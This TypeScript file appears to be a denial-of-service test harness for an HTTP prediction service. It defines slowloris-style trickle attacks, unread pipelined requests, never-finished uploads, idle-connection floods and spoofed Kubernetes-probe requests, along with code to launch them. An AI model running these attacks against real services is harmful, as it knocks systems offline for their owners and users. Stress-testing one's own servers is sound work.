import { fork } from 'node:child_process';
import { type Socket, connect } from 'node:net';
import { join } from 'node:path';
import type { Target } from './http';

const MEBIBYTE = 2 ** 20;
const REOPEN_MS = 1000;
/**
 * Time in which all connections open. A burst would overflow the packet queue of the attacking machine (1,000 on Linux), which also drops
 * legitimate packets.
 */
const RAMP_MS = 1000;

/** Denial-of-service attack. Runs until it is stopped. */
export interface Attack {
  readonly name: string;
  /** Number of simultaneous connections. The attack reopens connections that the server closes. */
  readonly connections: number;
  /** Sends the requests on a new connection. */
  readonly attack: (socket: Socket) => void;
}

const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: attack\r\n${headers}\r\n`;
const post = (type: string, length: number) =>
  `POST /predict HTTP/1.1\r\nHost: attack\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;
const PROBE = 'User-Agent: kube-probe/1.34\r\n';
const FORM = 'multipart/form-data; boundary=b';
const FORM_HEAD = '--b\r\nContent-Disposition: form-data; name="file"; filename="photo"\r\n\r\n';
const CHUNKED = `POST /predict HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;

/** Sends the bytes again after each response. */
function repeat(bytes: string) {
  return (socket: Socket) => {
    socket.on('data', () => socket.write(bytes));
    socket.write(bytes);
  };
}

function neverRead(bytes: string) {
  return (socket: Socket) => {
    socket.pause();
    socket.write(bytes);
  };
}

function trickle(head: string, piece: string) {
  return (socket: Socket) => {
    socket.resume().write(head);
    const timer = setInterval(() => socket.write(piece), 1000);
    socket.once('close', () => clearInterval(timer));
  };
}

/** Sends the largest upload without its last bytes. */
function unfinishedUpload(socket: Socket): void {
  socket.resume().write(post(FORM, 10 * MEBIBYTE));
  socket.write(FORM_HEAD);
  socket.write(Buffer.alloc(10 * MEBIBYTE - 1000));
}

export const ATTACKS: Attack[] = [
  { name: 'GET /test as a probe', connections: 50, attack: repeat(get('/test', PROBE)) },
  { name: 'GET /test', connections: 8, attack: repeat(get('/test')) },
  ...['/metrics', '/', '/livez', '/test'].map((path) => ({
    name: `2,000 pipelined GET ${path}, not read`,
    connections: 10,
    attack: neverRead(get(path).repeat(2000)),
  })),
  { name: 'pages not read', connections: 200, attack: neverRead(get('/').repeat(10)) },
  { name: 'uploads that never end', connections: 8, attack: unfinishedUpload },
  { name: 'uploads of one byte per second', connections: 300, attack: trickle(post(FORM, MEBIBYTE), 'x') },
  { name: 'JSON of one byte per second', connections: 300, attack: trickle(post('application/json', 10_000), ' ') },
  { name: 'chunks of one byte per second', connections: 300, attack: trickle(CHUNKED, '1\r\n \r\n') },
  {
    name: 'headers of one byte per second',
    connections: 300,
    attack: trickle('GET / HTTP/1.1\r\nHost: attack\r\nX: ', 'x'),
  },
  { name: 'silent connections', connections: 2000, attack: (socket) => void socket.resume() },
  { name: 'idle connections', connections: 2000, attack: (socket) => void socket.resume().write(get('/livez')) },
];

/** Attacks a target from a separate process until the returned function is called. */
export function launch({ name }: Attack, { address, port }: Target): () => void {
  const args = [name, address, String(port)];
  const child = fork(join(__dirname, 'attack-main.ts'), args, { execArgv: ['--require', 'tsx/cjs'] });
  return () => void child.kill();
}

/** Attacks a target until the process ends. Opens all connections within RAMP_MS. */
export function startAttack({ connections, attack }: Attack, { address, port }: Target): void {
  const openConnection = () => {
    const socket = connect(port, address);
    socket.on('error', () => undefined);
    socket.once('close', () => setTimeout(openConnection, REOPEN_MS));
    attack(socket);
  };
  for (let i = 0; i < connections; i++) setTimeout(openConnection, (i * RAMP_MS) / connections);
}
